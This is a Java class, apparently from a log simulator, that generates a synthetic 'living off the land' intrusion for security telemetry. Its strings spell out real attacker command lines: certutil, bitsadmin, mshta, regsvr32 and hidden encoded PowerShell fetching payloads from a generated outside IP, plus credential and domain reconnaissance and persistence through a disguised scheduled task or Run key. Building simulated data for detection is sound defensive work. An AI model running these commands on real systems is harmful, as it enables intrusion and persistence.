package dev.lapwing.pipeline.simulate.scenario;

import dev.lapwing.pipeline.simulate.company.Address;
import dev.lapwing.pipeline.simulate.company.Dice;
import dev.lapwing.pipeline.simulate.company.Person;
import dev.lapwing.pipeline.simulate.vendor.WindowsAccount;
import dev.lapwing.pipeline.simulate.vendor.WindowsLog;
import java.util.List;
import java.util.Locale;

/**
 * A document starts a tool of the operating system that fetches the rest; the intruder looks around
 * with more such tools, and stays by way of a scheduled task or a registry key.
 */
final class LivingOffTheLand implements Scenario {

  private record Tool(String path, String commandLine) {}

  private record Step(String program, String commandLine) {}

  private static final List<String> DOCUMENTS = List.of("WINWORD.EXE", "EXCEL.EXE", "OUTLOOK.EXE");
  private static final List<Step> LOOKS =
      List.of(
          new Step("whoami.exe", "whoami /groups"),
          new Step("net.exe", "net group \"Domain Admins\" /domain"),
          new Step("nltest.exe", "nltest /domain_trusts"),
          new Step("systeminfo.exe", "systeminfo"),
          new Step("ipconfig.exe", "ipconfig /all"),
          new Step("quser.exe", "quser"),
          new Step("net.exe", "net view /all"),
          new Step("cmdkey.exe", "cmdkey /list"));

  @Override
  public String name() {
    return "living_off_the_land";
  }

  @Override
  public String technique() {
    return "T1218";
  }

  @Override
  public void plan(Stage stage, Incident incident) {
    Dice dice = stage.dice();
    Person victim = stage.lead();
    Presence presence = stage.connected(victim);
    Address outside = Footholds.hosted(dice);
    incident.concerns(victim).concerns(presence.desk()).concernsInside(presence.inside());
    WindowsLog log = WindowsLog.session(presence.desk(), WindowsAccount.of(victim), dice);
    Computer desk = new Computer(log, incident);
    long time = presence.moment(dice);
    Tool loader = loader(outside.ip(), dice);
    desk.start(time, loader.path(), loader.commandLine(), Computer.OFFICE + dice.pick(DOCUMENTS));
    Smuggling wire = Smuggling.from(presence, victim, outside, dice);
    wire.send(time + 900, 4_000, incident);
    if (dice.chance(0.6)) {
      Tool second = loader(outside.ip(), dice);
      time += stage.pause(Stage.MINUTE, 0.05);
      desk.start(time, second.path(), second.commandLine(), loader.path());
    }
    int looks = dice.between(2, 6);
    for (int i = 0; i < looks; i++) {
      time += stage.pause(5 * Stage.MINUTE, 0.6 / looks);
      Step look = dice.pick(LOOKS);
      desk.shell(time, look.program(), look.commandLine());
    }
    long objective = time + stage.pause(8 * Stage.MINUTE, 0.2);
    Step stay = stay(dice);
    desk.shell(objective, stay.program(), stay.commandLine());
    incident.objective(objective);
    wire.send(objective + Stage.MINUTE, 60_000, incident);
  }

  private static Tool loader(String ip, Dice dice) {
    String file = dice.token(6).toLowerCase(Locale.ROOT);
    String url = "http://" + ip + "/" + file;
    String temp = "C:\\Users\\Public\\" + file;
    String system = Computer.SYSTEM32;
    return switch (dice.between(0, 4)) {
      case 0 ->
          new Tool(system + "certutil.exe", "certutil -urlcache -split -f " + url + " " + temp);
      case 1 ->
          new Tool(system + "bitsadmin.exe", "bitsadmin /transfer j /download " + url + " " + temp);
      case 2 -> new Tool(system + "mshta.exe", "mshta " + url + ".hta");
      case 3 ->
          new Tool(system + "regsvr32.exe", "regsvr32 /s /n /u /i:" + url + ".sct scrobj.dll");
      default ->
          new Tool(
              Computer.POWERSHELL, "powershell.exe -nop -w hidden -enc " + dice.token(180) + "==");
    };
  }

  private static Step stay(Dice dice) {
    String program = "C:\\ProgramData\\" + dice.token(7) + ".exe";
    return dice.chance(0.5)
        ? new Step(
            "schtasks.exe", "schtasks /create /sc onlogon /tn OneDriveSync /tr " + program + " /f")
        : new Step(
            "reg.exe",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Sync /d "
                + program
                + " /f");
  }
}
